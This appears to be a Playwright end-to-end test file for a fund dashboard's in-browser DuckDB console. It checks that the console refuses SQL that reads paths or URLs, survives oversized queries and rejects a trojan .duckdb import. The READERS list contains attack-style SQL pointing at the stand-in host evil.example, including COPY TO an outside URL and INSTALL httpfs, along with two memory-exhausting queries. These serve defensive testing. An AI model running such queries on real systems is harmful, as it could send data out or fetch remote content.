/**
 * Issue 16 in the production build, served by a static server that sends no Content-Security-
 * Policy header (only the page's <meta> policy is left, and it does not reach DuckDB's worker):
 * every SQL function that reads a path or URL gives the console's message and no request leaves
 * 127.0.0.1, the page's or the worker's, even from a link that runs the query on opening; the two
 * one-row queries that crashed the tab give a message and leave it working; a query run while
 * another runs waits for it; an imported or restored .duckdb whose `reports` is a view over a
 * macro that reads a URL is refused, and reads nothing.
 */
import { describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { SCHEMA } from '../../src/parser/schema.ts';
import { trojanDatabase } from '../db/trojan-database.ts';
import { openPage, screenshot, useBrowser, type WatchedPage } from './browser.ts';
import { newGb18030ReportFile } from '../lib/new-report-fixture.ts';

const siteUrl = inject('plainSiteUrl');
const browser = useBrowser();
const GB18030 = newGb18030ReportFile();

const OFFLINE_ZH = '本看板的数据库不读取文件，也不访问网络（也不下载扩展）';
const errorBox = (page: Page) => page.getByTestId('sql-error');

/** The site with no CSP header; requests that would leave it are counted, and stopped. */
async function openPlain(search: string): Promise<WatchedPage> {
  const watched = await openPage(browser(), siteUrl, 1440, 1000, { blockForeign: true });
  await watched.page.goto(`${siteUrl}?${search}`);
  return watched;
}

async function openConsole(search = ''): Promise<WatchedPage> {
  const watched = await openPlain(`view=sql${search}`);
  await watched.page.locator('[data-testid="sql-console"][data-phase="done"], [data-testid="sql-console"][data-phase="failed"]').waitFor({ timeout: 30_000 });
  return watched;
}

/** Types `sql` into the editor, runs it and waits until it has finished. */
async function runSql(page: Page, sql: string, timeout = 30_000): Promise<void> {
  const finished = Number(await page.getByTestId('sql-console').getAttribute('data-finished'));
  await page.getByTestId('sql-editor').fill(sql);
  await page.getByTestId('sql-run').click();
  await page.waitForFunction(
    (before) => Number(document.querySelector('[data-testid="sql-console"]')?.getAttribute('data-finished')) > before,
    finished, { timeout },
  );
}

const READERS = [
  "SELECT * FROM read_csv('http://evil.example/x.csv')",
  "SELECT * FROM read_csv_auto('https://evil.example/x.csv')",
  "SELECT * FROM 'http://evil.example/x.csv'",
  "SELECT * FROM read_json('http://evil.example/x.json')",
  "SELECT * FROM read_parquet('http://evil.example/x.parquet')",
  "SELECT * FROM read_xlsx('http://evil.example/x.xlsx')",
  "SELECT * FROM read_text('http://evil.example/x.txt')",
  "SELECT * FROM read_blob('http://evil.example/x.bin')",
  "SELECT * FROM glob('http://evil.example/*')",
  "SELECT now() AT TIME ZONE 'Asia/Shanghai' AS t",
  "ATTACH 'http://evil.example/x.duckdb' AS x",
  "COPY (SELECT 1) TO 'http://evil.example/out.csv'",
  'INSTALL httpfs',
  'LOAD httpfs',
];

describe('the engine reaches no file and no network (served without a CSP header)', () => {
  it('refuses every function that reads a path or URL, in words, and nothing leaves 127.0.0.1', async () => {
    const watched = await openConsole();
    const { page } = watched;
    for (const sql of READERS) {
      await runSql(page, sql);
      expect(await errorBox(page).getAttribute('data-kind'), sql).toBe('rejected');
      expect(await errorBox(page).innerText(), sql).toContain(OFFLINE_ZH);
    }
    await screenshot(page, 'sql-console-offline-zh-1440');
    expect(watched.foreignRequests).toEqual([]);
    // The console still answers.
    await runSql(page, 'SELECT count(*) AS n FROM reports');
    expect(await errorBox(page).count()).toBe(0);
    expect(watched.consoleErrors).toEqual([]);
    await page.context().close();
  }, 120_000);

  it('runs nothing outside from a link that opens the console on such a query, and says so in English too', async () => {
    const sql = "SELECT * FROM read_csv('http://evil.example/x.csv')";
    const watched = await openConsole(`&lang=en&sqlq=${encodeURIComponent(sql)}`);
    const { page } = watched;
    expect(await errorBox(page).innerText()).toContain('The dashboard’s database reads no files and does not use the network (nor download extensions): “http://evil.example/x.csv” is not available');
    expect(watched.foreignRequests).toEqual([]);
    await page.context().close();
  });

  it('survives the one-row queries that crashed the tab, with a message, and answers the next query', async () => {
    const watched = await openConsole();
    const { page } = watched;
    let crashed = false;
    page.on('crash', () => (crashed = true));
    for (const sql of ["SELECT repeat('x', 400000000) AS s", 'SELECT list(range) AS l FROM range(20000000)']) {
      await runSql(page, sql, 90_000);
      expect(await errorBox(page).getAttribute('data-kind'), sql).toBe('rejected');
      expect(await errorBox(page).innerText(), sql).toContain('结果太大（超过 16 MB），为保护页面已停止读取。');
    }
    await runSql(page, 'SELECT 42 AS answer');
    expect(await page.locator('[data-testid="sql-result-table"] tbody td').first().innerText()).toBe('42');
    expect(crashed).toBe(false);
    expect(watched.consoleErrors).toEqual([]);
    await page.context().close();
  }, 240_000);

  it('runs a query typed while another runs once that one has stopped, never failing on its transaction', async () => {
    const watched = await openConsole();
    const { page } = watched;
    for (const pause of [0, 300]) {
      // The first run is replaced, and says nothing: the next outcome is the second's.
      const finished = Number(await page.getByTestId('sql-console').getAttribute('data-finished'));
      await page.getByTestId('sql-editor').fill('SELECT COUNT(*) AS n FROM range(3000000000) a WHERE a.range % 7 = 3');
      await page.getByTestId('sql-run').click();
      await page.waitForTimeout(pause);
      await page.getByTestId('sql-editor').fill(`SELECT ${pause} AS answer`);
      await page.getByTestId('sql-run').click();
      await page.waitForFunction(
        (before) => Number(document.querySelector('[data-testid="sql-console"]')?.getAttribute('data-finished')) > before,
        finished, { timeout: 30_000 },
      );
      expect(await errorBox(page).count()).toBe(0);
      expect(await page.getByTestId('sql-console').getAttribute('data-phase')).toBe('done');
      expect(await page.locator('[data-testid="sql-result-table"] tbody td').first().innerText()).toBe(String(pause));
    }
    expect(watched.consoleErrors).toEqual([]);
    await page.context().close();
  });
});

describe('an imported database file gives tables, not code', () => {
  const refusal = 'trojan.duckdb: 数据库文件只能包含 reports、budget_lines、indicators、findings 四张数据表，这里还有 SEQUENCE ids、TABLE MACRO remote_rows、VIEW reports';

  it('refuses a .duckdb whose reports is a view over a macro that reads a URL, and reads nothing', async () => {
    const trojan = await trojanDatabase('http://evil.example/reports.csv');
    const watched = await openPlain('view=import');
    const { page } = watched;
    await page.locator('[data-testid="import-summary"][data-source="live"]').waitFor({ timeout: 30_000 });
    await page.getByTestId('import-input').setInputFiles({ name: 'trojan.duckdb', mimeType: 'application/octet-stream', buffer: Buffer.from(trojan) });
    await page.getByTestId('import-start').click();
    await page.getByTestId('import-error').waitFor({ timeout: 30_000 });
    expect(await page.getByTestId('import-error').innerText()).toContain(refusal);
    expect(await page.getByTestId('import-list-empty').count()).toBe(1);
    await screenshot(page, 'import-trojan-zh-1440');
    expect(watched.foreignRequests).toEqual([]);
    expect(watched.consoleErrors).toEqual([]);
    await page.context().close();
  });

  it('refuses such a file kept from an earlier visit when it restores the imports, and puts back the others', async () => {
    const trojan = await trojanDatabase('http://evil.example/reports.csv');
    const watched = await openPlain('view=import');
    const { page } = watched;
    await page.locator('[data-testid="import-summary"][data-source="live"]').waitFor({ timeout: 30_000 });
    await page.getByTestId('import-input').setInputFiles(GB18030);
    await page.getByTestId('import-start').click();
    await page.getByTestId('import-done').waitFor({ timeout: 30_000 });
    // As an older version of the page would have kept it (its rows in the record, not in chunks):
    // a record beside the good import's.
    const headers = Object.fromEntries(Object.entries(SCHEMA).map(([table, columns]) => [table, `${columns.map((c) => c.name).join(',')}\r\n`]));
    await page.evaluate(async ([bytes, headers]) => {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open('fund-dashboard-imports');
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      const store = db.transaction('imports', 'readwrite').objectStore('imports');
      const [good] = await new Promise<Record<string, unknown>[]>((resolve) => {
        const all = store.getAll();
        all.onsuccess = () => resolve(all.result as Record<string, unknown>[]);
      });
      await new Promise((resolve, reject) => {
        const put = store.put({ ...good, chunks: undefined, id: 99, files: [{ name: 'trojan.duckdb', kind: 'duckdb', reports: 0, rows: 0 }], csv: headers,
          databases: [{ name: 'trojan.duckdb', bytes: new Uint8Array(bytes) }], reportFiles: {} });
        put.onsuccess = resolve;
        put.onerror = () => reject(put.error);
      });
      localStorage.setItem('fund-dashboard.imports', '2');
    }, [[...trojan], headers] as const);
    await page.reload();
    await page.locator('[data-testid="import-summary"][data-source="live"]').waitFor({ timeout: 30_000 });
    expect(await page.getByTestId('import-restore-failed').innerText()).toContain(refusal);
    expect(await page.locator('.import-entry .import-file-name').allInnerTexts()).toEqual(['gb18030-encoding.txt']);
    expect(watched.foreignRequests).toEqual([]);
    expect(watched.consoleErrors).toEqual([]);
    await page.context().close();
  }, 120_000);
});
